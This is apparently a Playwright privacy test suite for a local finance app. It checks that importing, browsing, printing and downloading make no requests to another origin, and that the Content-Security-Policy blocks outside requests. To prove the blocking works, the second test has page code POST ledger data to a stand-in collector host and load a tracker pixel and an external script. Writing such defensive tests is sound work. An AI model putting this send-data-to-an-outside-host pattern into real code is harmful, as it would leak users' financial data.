// Nothing leaves the origin. Every request the browser makes (pages and workers) is recorded while a user
// imports a file, browses every page, prints each one and downloads what can be downloaded; the test fails
// on any request to another origin. The Content-Security-Policy is checked in force (as a <meta> and as a
// header), and shown to block a request to another origin should any code try one.
import { rmSync, mkdirSync } from 'node:fs';
import { readFile } from 'node:fs/promises';
import { fileURLToPath } from 'node:url';
import { CONTENT_SECURITY_POLICY } from '../../vite.config';
import { ROUTES, paperYear } from './routes';
import { expect, test } from './watched-page';
import { SAMPLE_FILE_LIST } from '../../src/api/sample-files';

/** The sample's datasets, stored at first start. */
const SAMPLES = SAMPLE_FILE_LIST.length;

const FIXTURE = fileURLToPath(new URL('../fixtures/ledger-windows-1252.csv', import.meta.url));
const PRINTS = fileURLToPath(new URL('../../test-results/privacy-prints/', import.meta.url));

// From an empty profile: its first start (the sample fetched and imported) is among the requests recorded.
test.use({ profile: 'first-start' });

test('nothing leaves the origin while a user imports, browses and prints every page, and downloads', async ({
  app,
  requests,
  baseURL,
}) => {
  const origin = new URL(baseURL!).origin;
  const sockets: string[] = [];
  app.on('websocket', (ws) => sockets.push(ws.url()));
  mkdirSync(PRINTS, { recursive: true });
  try {
    // The policy, as a header and in the page.
    const response = await app.goto('/import');
    expect(response?.headers()['content-security-policy']).toBe(`${CONTENT_SECURITY_POLICY}; frame-ancestors 'none'`);
    expect(await app.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content')).toBe(
      CONTENT_SECURITY_POLICY,
    );
    // The page is asked for again at every start (a new build is seen); the build's files, named by their content,
    // are kept (vite.config.ts says why).
    expect(response?.headers()['cache-control']).toBe('no-cache');
    const script = await app.locator('script[type="module"]').first().getAttribute('src');
    const asset = await app.request.get(script!);
    expect(asset.headers()['cache-control']).toBe('public, max-age=31536000, immutable');

    // Import a file (in the worker), and download its rejections (a blob: URL, made in the page).
    await expect(app.getByRole('table', { name: new RegExp(`^${SAMPLES} datasets, kept`) })).toBeVisible();
    await app.getByLabel(/Choose a CSV file/).setInputFiles(FIXTURE);
    await app.getByRole('button', { name: 'Import ledger-windows-1252.csv' }).click();
    const receipt = app.getByRole('article', { name: 'Import receipt: ledger-windows-1252.csv' });
    await expect(receipt.getByRole('status')).toContainText('Every row is accounted for');
    const [rejections] = await Promise.all([
      app.waitForEvent('download'),
      receipt.getByRole('button', { name: 'Download rejections and warnings as CSV' }).click(),
    ]);
    expect(await readFile(await rejections.path(), 'utf8')).toContain('invalid-day');

    // Every page, on screen and printed; on the Projections page, the scenario export (another blob: download).
    let exported = false;
    for (const route of ROUTES) {
      await app.goto(paperYear(route.path));
      await expect(app.getByRole('heading', { level: 2, name: route.heading })).toBeVisible();
      await expect(app.getByRole('status').filter({ hasText: 'Loading' })).toHaveCount(0);
      await app.pdf({ path: `${PRINTS}${route.path.slice(1)}.pdf`, format: 'A4', printBackground: true });
      if (route.path !== '/projections') continue;
      const [scenario] = await Promise.all([
        app.waitForEvent('download'),
        app.getByRole('button', { name: 'Export scenario and projection (CSV)' }).click(),
      ]);
      expect(await readFile(await scenario.path(), 'utf8')).toContain('Road Casualty Reserve projection');
      exported = true;
    }
    expect(exported, 'the scenario exported from the Projections page').toBe(true);

    // The record: many requests, every one to the app's own origin (or data:/blob:, which never leave the browser).
    expect(requests.length).toBeGreaterThan(20);
    const elsewhere = requests.filter((r) => !r.url.startsWith(`${origin}/`) && !/^(data|blob):/.test(r.url));
    expect(elsewhere, 'requests to another origin').toEqual([]);
    expect(sockets, 'WebSockets opened').toEqual([]);
    // And only what the app is made of: its pages, its built assets, its icon (public/), the sample files (in one
    // file, src/api/sample-bundle.ts).
    const paths = new Set(
      requests
        .filter((r) => r.url.startsWith(origin))
        .map((r) =>
          new URL(r.url).pathname.replace(/^\/assets\/.*$/, '/assets/*').replace(/^\/data\/.*\.csv$/, '/data/*.csv'),
        ),
    );
    expect([...paths].sort()).toEqual(
      ['/assets/*', '/data/sample-files.bin', '/favicon.svg', ...ROUTES.map((r) => r.path)].sort(),
    );
  } finally {
    rmSync(PRINTS, { recursive: true, force: true });
  }
});

test.describe('the Content-Security-Policy', () => {
  // Only reads (what the page tries is blocked): the worker's started profile, a new page.
  test.use({ expectedProblems: /example\.invalid|Content Security Policy/, profile: 'shared' });

  test('blocks a request to another origin, should any code try one', async ({ app }) => {
    const answered: string[] = [];
    const failed: string[] = [];
    app.on('response', (r) => answered.push(r.url()));
    app.on('requestfailed', (r) => failed.push(`${r.url()} ${r.failure()?.errorText ?? ''}`));
    await app.goto(paperYear('/revenue'));
    await expect(app.getByRole('heading', { level: 2, name: 'Revenue' })).toBeVisible();
    const violations = await app.evaluate(async () => {
      const seen: string[] = [];
      // Each of the three is reported twice (below): waited for until the browser has reported all six, however
      // long that takes (bounded by the test's timeout), never for a fixed time.
      const reported = new Promise<void>((resolve) =>
        document.addEventListener('securitypolicyviolation', (e) => {
          seen.push(`${e.effectiveDirective} ${e.blockedURI}`);
          if (seen.length >= 6) resolve();
        }),
      );
      await fetch('https://collector.example.invalid/ledger', { method: 'POST', body: 'cost centre,amount' }).catch(
        () => undefined,
      );
      const image = new Image();
      image.src = 'https://tracker.example.invalid/pixel.gif';
      const script = document.createElement('script');
      script.src = 'https://cdn.example.invalid/lib.js';
      document.head.append(script);
      await reported;
      return seen.sort();
    });
    // Each reported twice: the header's policy and the page's <meta> both forbid it.
    expect(violations).toEqual([
      'connect-src https://collector.example.invalid/ledger',
      'connect-src https://collector.example.invalid/ledger',
      'img-src https://tracker.example.invalid/pixel.gif',
      'img-src https://tracker.example.invalid/pixel.gif',
      'script-src-elem https://cdn.example.invalid/lib.js',
      'script-src-elem https://cdn.example.invalid/lib.js',
    ]);
    // Blocked in the browser: none was answered; the image and the script failed as blocked by the policy
    // (the fetch is refused before a request exists at all).
    expect(answered.filter((u) => u.includes('example.invalid'))).toEqual([]);
    // The failures reach this process as events of their own: waited for as they arrive.
    await expect.poll(() => failed.filter((f) => f.includes('example.invalid')).length).toBeGreaterThanOrEqual(2);
    for (const f of failed) expect(f).toMatch(/example\.invalid.* (csp|net::ERR_BLOCKED_BY_CSP)$/);
  });
});
